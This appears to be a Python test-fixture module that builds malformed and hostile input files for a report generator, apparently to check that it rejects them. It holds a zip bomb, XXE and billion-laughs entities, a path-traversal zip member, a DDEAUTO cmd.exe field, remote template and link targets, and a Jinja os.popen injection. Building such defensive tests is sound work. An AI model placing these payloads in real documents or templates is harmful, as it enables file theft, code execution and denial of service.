"""Files of the corpus that cannot be kept as text: other encodings, hidden characters, sizes, and packages made by hand.

Every builder gives the files of one case by their path below the project's folder.
"""

import zipfile
from collections.abc import Callable, Iterable
from functools import partial
from io import BytesIO
from typing import Any

import openpyxl
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from ours import TEMPLATES, TESTS
from reportgen.package import read_parts, write_package

CORPUS = TESTS / "corpus"
BASE = (CORPUS / "base/2025/ningxian.yaml").read_text(encoding="utf-8")
CONTENT = "content/2025/ningxian.yaml"
ATTACHED = "content/2025/附件/办法.md"
TAIL = "下一步，扎实抓好各项重点工作。"
HANZI = "".join(map(chr, range(0x4E00, 0x9C00))) * 17
"""Enough hanzi for a megabyte of text."""

Files = dict[str, bytes]
Builder = Callable[[], Files]


def content(text: str | bytes) -> Files:
    """The one locality's file."""
    return {CONTENT: text.encode() if isinstance(text, str) else text}


def changed(old: str, new: str) -> Files:
    """The sound file with one place changed."""
    assert old in BASE
    return content(BASE.replace(old, new, 1))


def said(text: str) -> Files:
    """The sound file with another last sentence."""
    return changed(TAIL, text)


def attaching(markdown: str, path: str = "附件/办法.md") -> Files:
    """The sound file with an attached Markdown file."""
    listed = f"{BASE}attachments:\n  - title: 评估办法\n    file: {path}\n"
    return content(listed) | {ATTACHED: markdown.encode()}


def _nested_maps(depth: int) -> str:
    return "\n".join(f"{'  ' * n}层{n}:" for n in range(depth)) + "\n"


def _pasted_gbk() -> bytes:
    before, after = BASE.encode().split(TAIL.encode())
    return before + TAIL.encode("gbk") + after


def _cut_character() -> bytes:
    return BASE.partition("重点工作")[0].encode() + "重".encode()[:2]


CONTENTS: dict[str, Builder] = {
    "A02": lambda: content(b"\xef\xbb\xbf" + BASE.encode()),
    "A03": lambda: content(BASE.replace("\n", "\r\n")),
    "A04": lambda: content(BASE.encode("gbk")),
    "A05": lambda: content(_pasted_gbk()),
    "A06": lambda: content(b"\xff\xfe" + BASE.encode("utf-16-le")),
    "A07": lambda: content(BASE.replace(TAIL, f"𠮷县长到会。{TAIL}").encode("gb18030")),
    "A09": lambda: content(b""),
    "A15": lambda: changed("2025\nreport", "2025\0\nreport"),
    "A19": lambda: changed("    总收入: ", "\u00a0\u00a0总收入: "),
    "A21": lambda: changed("总收入: ", "总\u200b收入: "),
    "A28": lambda: content("locality: " + "[" * 6_000 + "]" * 6_000 + "\n"),
    "A29": lambda: content(_nested_maps(1_200)),
    "A41": lambda: content(BASE.replace("\n", "\r")),
    "A42": lambda: said("下一步，\u2028扎实抓好各项重点工作。"),
    "A43": lambda: content("locality: " + "[" * 60_000 + "]" * 60_000 + "\n"),
    "A44": lambda: content(_cut_character()),
    "B21": lambda: changed("6008.00万元", "1" * 5_000 + "万元"),
    "C02": lambda: said("甲\x0b乙。"),
    "C20": lambda: said("完成\u202e00.8006\u202c万元。"),
    "C21": lambda: said("完成\u2066甲\u2069。"),
    "C22": lambda: said("重\u200b点工作。"),
    "C23": lambda: said("重\u00ad点工作。"),
    "C26": lambda: said("\ue816县长到会。"),
    "C32": lambda: said("好" * 3_500_000),
    "C33": lambda: said("甲。\r      乙。"),
    "C35": lambda: said("甲\t乙。"),
    "C36": lambda: said("甲\u00a0\u00a0乙。"),
    "C40": lambda: said("甲\U000e0041\U000e0042乙。"),
    "C41": lambda: said("甲\u0080\u009f乙。"),
    "D11": lambda: changed("locality: 宁县", "locality: 环县"),
    "E10": lambda: content(BASE) | {"content/2025/NINGXIAN.yaml": BASE.encode()},
    "E12": lambda: attaching("甲。\n", "附件\u202ecod.md"),
    "P06": lambda: attaching("[" * 20_000 + "a" + "]" * 20_000 + "\n"),
    "P08": lambda: attaching(">" * 5_000 + " 甲\n"),
    "Z01": lambda: said("\n\n      ".join(HANZI[n * 330 : (n + 1) * 330] for n in range(1_000)) + TAIL),
}
"""Cases of content."""


TYPES, RELATIONS, MAIN = "[Content_Types].xml", "_rels/.rels", "word/document.xml"
MAIN_RELATIONS = "word/_rels/document.xml.rels"
SENTENCE = "宁县2025年完成收入6008.00万元，同比增长5.60%。"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_MORE = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
)
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.{}.main+xml"/></Types>'
)
_DOCUMENT = "openxmlformats-officedocument.wordprocessingml.document"
_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="{}"{}/></Relationships>'
)


def run(text: str, properties: str = "") -> str:
    return f'<w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def paragraph(*runs: str) -> str:
    return f"<w:p>{''.join(runs)}</w:p>"


def parts(body: str = paragraph(run(SENTENCE)), doctype: str = "") -> dict[str, bytes]:
    """The parts of a small Word file."""
    xml = f'<?xml version="1.0"?>{doctype}<w:document {_W} {_MORE}><w:body>{body}</w:body></w:document>'
    return {
        TYPES: _TYPES.format(_DOCUMENT).encode(),
        RELATIONS: _RELATION.format("officeDocument", MAIN, "").encode(),
        MAIN: xml.encode(),
    }


def docx(body: str = paragraph(run(SENTENCE)), **more: str) -> bytes:
    """A small Word file; `more` are further parts, with __ for / and _dot_ for . in their names."""
    named = {name.replace("__", "/").replace("_dot_", "."): text.encode() for name, text in more.items()}
    return write_package(parts(body) | named)


def zipped(members: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip as anyone might make it, doubled names and all."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members:
            package.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def bomb(name: str, megabytes: int, around: dict[str, bytes]) -> bytes:
    """A package one member of which is nothing but spaces."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for other, data in around.items():
            if other != name:
                package.writestr(other, data)
        with package.open(name, "w") as member:
            for _ in range(megabytes):
                member.write(b" " * 10**6)
    return target.getvalue()


def overlapping() -> bytes:
    """200 members of the directory that share one local header."""
    data = zipped((*parts().items(), ("a.xml", b"a" * 4_000)))
    end = data.rindex(b"PK\x05\x06")
    start = int.from_bytes(data[end + 16 : end + 20], "little")
    entry = data[data.rindex(b"PK\x01\x02", start, end) : end]
    others = b"".join(entry.replace(b"a.xml", f"{n:05}".encode()) for n in range(200))
    directory = data[start:end] + others
    count = (len(parts()) + 1 + 200).to_bytes(2, "little")
    tail = data[end : end + 8] + count * 2 + len(directory).to_bytes(4, "little") + data[end + 16 :]
    return data[:start] + directory + tail


def flipped(data: bytes) -> bytes:
    """Bytes damaged within the main part."""
    name = data.index(MAIN.encode())
    start = name + len(MAIN) + 20
    return data[:start] + bytes(b ^ 0x55 for b in data[start : start + 40]) + data[start + 40 :]


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
_XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LAUGHS = '<!DOCTYPE w [<!ENTITY a "哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_TRACKED = paragraph(
    run("完成收入"),
    f'<w:del w:id="1" w:author="甲"><w:r><w:delText>6008.00</w:delText></w:r></w:del>'
    f'<w:ins w:id="2" w:author="甲">{run("6108.00")}</w:ins>',
    run("万元。"),
)
_BOX = f"<w:txbxContent>{paragraph(run('文本框8888.88万元。'))}</w:txbxContent>"
_PLACES = (
    f"<w:sdt><w:sdtContent>{paragraph(run('控件7777.77万元。'))}</w:sdtContent></w:sdt>"
    f'<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps">{_BOX}</mc:Choice></mc:AlternateContent></w:r></w:p>'
    f"<w:tbl><w:tr><w:tc>{paragraph(run('表格6666.66万元'))}</w:tc></w:tr></w:tbl>"
    f"{paragraph(run('隐藏5555.55万元。', '<w:vanish/>'))}"
)
_FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>甲</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph(run("甲")) + "</w:tc></w:tr></w:tbl>" * depth


def remote_template() -> bytes:
    attached = _RELATION.format("attachedTemplate", "http://10.0.0.1/x.dotm", ' TargetMode="External"')
    return write_package(parts() | {MAIN_RELATIONS: attached.encode()})


def macro() -> bytes:
    kind = "ms-word.document.macroEnabled"
    return write_package(parts() | {TYPES: _TYPES.format(kind).encode(), "word/vbaProject.bin": b"\0" * 99})


def many_digits() -> str:
    return paragraph(run("完成收入"), *(run(c) for c in "6008.00"), run("万元。"))


def utf_16(data: dict[str, bytes]) -> dict[str, bytes]:
    text = data[MAIN].decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    return {**data, MAIN: text.encode("utf-16")}


DOCUMENTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "G01": ("报告.docx", docx),
    "G02": ("报告.docx", lambda: SENTENCE.encode()),
    "G03": ("报告.docx", lambda: _OLE),
    "G04": ("报告.docx", lambda: docx()[:-200]),
    "G05": ("报告.docx", lambda: b""),
    "G06": ("报告.docx", lambda: flipped(zipped(parts().items()))),
    "G07": ("报告.docx", lambda: bomb(MAIN, 60, parts())),
    "G08": ("报告.docx", lambda: write_package(parts(paragraph(run("&x;")), _XXE))),
    "G09": ("报告.docx", lambda: write_package(parts(paragraph(run("&b;")), _LAUGHS))),
    "G10": ("报告.docx", lambda: zipped((*parts().items(), ("../../x.xml", b"<a/>")))),
    "G11": ("报告.docx", lambda: docx(nested_tables(3_000))),
    "G12": ("报告.docx", lambda: zipped((n, d) for n, d in parts().items() if n != MAIN)),
    "G13": ("报告.docx", lambda: zipped((*parts().items(), (MAIN, parts(paragraph(run("另一份")))[MAIN])))),
    "G14": ("报告.docx", lambda: docx(_TRACKED)),
    "G15": ("报告.docx", lambda: docx(_PLACES)),
    "G16": ("报告.docm", macro),
    "G17": ("报告.docx", remote_template),
    "G18": ("报告.docx", lambda: docx(paragraph(_FIELD))),
    "G19": ("~$报告.docx", lambda: b"\x05liang" + bytes(156)),
    "G20": ("报告.docx", lambda: docx(paragraph(run("甲。")) * 200_000)),
    "G21": ("报告.docx", lambda: docx(many_digits())),
    "G22": ("报告.docx", lambda: write_package(utf_16(parts()))),
    "G23": ("报告.docx", overlapping),
}
"""Finished documents, with the name each lies under."""


def template(old: str, new: str) -> Files:
    """The real template with one place of its text changed."""
    name = "templates/work-summary.docx"
    real = read_parts((TEMPLATES / "work-summary.docx").read_bytes())
    assert isinstance(real, dict)
    text = real[MAIN].decode()
    assert old in text
    text = text.replace(old, new, 1)
    return content(BASE) | {name: write_package({**real, MAIN: text.encode()})}


_CAPTION = "{{ block.caption }}"
_UNSAFE = "{{ cycler.__init__.__globals__.os.popen('echo PWNED').read() }}"
_WALKING = "{{ report.blocks | join('', 'runs.0.__class__.__annotations__') }}"
_BOTH = "{%p for notice in report.notices %}{%p endfor %}"

_BODY = "<w:body>"


def _hiding(tag: str) -> str:
    """The beginning of the body with a tag where nobody sees it."""
    return f'{_BODY}<w:p w:rsidR="{tag}"/>'


TEMPLATED: dict[str, Builder] = {
    "T01": partial(template, _CAPTION, _UNSAFE),
    "T02": partial(template, _CAPTION, "{{ block.caption"),
    "T03": partial(template, _CAPTION, "{{ block.captoin }}"),
    "T04": partial(template, '"pending"', "“pending”"),
    "T05": partial(template, _CAPTION, "｛｛ block.caption ｝｝"),
    "T06": partial(template, "{%p for notice in report.notices %}", _BOTH),
    "T07": partial(
        template, _CAPTION, "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}"
    ),
    "T08": partial(template, _BODY, _hiding(_WALKING)),
    "T09": partial(template, _BODY, _hiding("{{ report.blocks | batch(100000000, 'x') | join }}")),
    "T10": partial(template, _BODY, _hiding("{{ report.nope }}")),
    "T11": partial(template, _CAPTION, "{{ " + "(" * 400 + "1" + ")" * 400 + " }}"),
    "T12": partial(template, "<w:pgSz ", "<w:pgNumType "),
}
"""Cases of templates."""


def text_case(name: str) -> Files:
    """A case kept as text: content, or an attached Markdown file."""
    attached = CORPUS / "texts" / f"{name}.md"
    if attached.is_file():
        return attaching(attached.read_bytes().decode())
    return content((CORPUS / "texts" / f"{name}.yaml").read_bytes())


def files_of(name: str) -> Files:
    """The files of a case, without the base that all share."""
    made = {**CONTENTS, **TEMPLATED}.get(name)
    return made() if made else text_case(name)


_SOURCED = BASE.replace("总收入: 6008.00万元", "总收入: {value: 6008.00万元, source: '台账.xlsx!汇总!C5'}")
_BOOK = "content/2025/台账.xlsx"


def workbook(value: object = 6008, form: str = "0.00", change: Callable[[Any], None] | None = None) -> bytes:
    """A spreadsheet whose C5 holds a value in 万元."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "汇总"
    sheet["B5"], sheet["C4"], sheet["C5"] = "总收入", "金额（万元）", value
    sheet["C5"].number_format = form
    if change:
        change(sheet)
    target = BytesIO()
    book.save(target)
    return target.getvalue()


def sourced(data: bytes, text: str = _SOURCED) -> Files:
    return content(text) | {_BOOK: data}


def repacked(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A spreadsheet with its parts changed."""
    with zipfile.ZipFile(BytesIO(data)) as package:
        members = {name: package.read(name) for name in package.namelist()}
    change(members)
    return zipped(members.items())


def _doctype(members: dict[str, bytes]) -> None:
    members["xl/workbook.xml"] = _LAUGHS.encode() + members["xl/workbook.xml"]


def _entity(members: dict[str, bytes]) -> None:
    name = "xl/worksheets/sheet1.xml"
    members[name] = _XXE.encode() + members[name]


def _with_macro(members: dict[str, bytes]) -> None:
    members["xl/vbaProject.bin"] = b"\0" * 99


def _with_link(members: dict[str, bytes]) -> None:
    link = _RELATION.format("externalLinkPath", "http://10.0.0.1/x.xlsx", ' TargetMode="External"')
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = link.encode()


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _hidden(sheet: Any) -> None:
    sheet.row_dimensions[5].hidden = True


def _far(sheet: Any) -> None:
    sheet["XFD1048576"] = 1


def _in_yi(sheet: Any) -> None:
    sheet["C4"], sheet["C5"] = "金额（亿元）", 0.6008


def _1904(sheet: Any) -> None:
    sheet.parent.epoch = CALENDAR_MAC_1904


CONTENTS |= {
    "H01": lambda: sourced(workbook()),
    "H02": lambda: sourced(workbook("=6000+8")),
    "H03": lambda: sourced(workbook("6008.00")),
    "H04": lambda: sourced(workbook(6007.999999999999), _SOURCED),
    "H05": lambda: sourced(workbook(change=_hidden)),
    "H06": lambda: sourced(workbook("#REF!")),
    "H07": lambda: sourced(workbook(change=_far)),
    "H08": lambda: sourced(repacked(workbook(), _doctype)),
    "H09": lambda: sourced(repacked(workbook(), _entity)),
    "H10": lambda: sourced(bomb("xl/sharedStrings.xml", 50, _members(workbook()))),
    "H11": lambda: sourced(_OLE),
    "H12": lambda: sourced(workbook("'=6008")),
    "H13": lambda: sourced(workbook(change=_1904)),
    "H14": lambda: sourced("项目,金额\n总收入,6008.00\n".encode("gbk")),
    "H15": lambda: sourced(workbook(), _SOURCED.replace("!汇总!", "!汇 总!")),
    "H16": lambda: sourced(repacked(workbook(), _with_macro)),
    "H17": lambda: sourced(repacked(workbook(), _with_link)),
    "H18": lambda: sourced(workbook(change=_in_yi)),
}
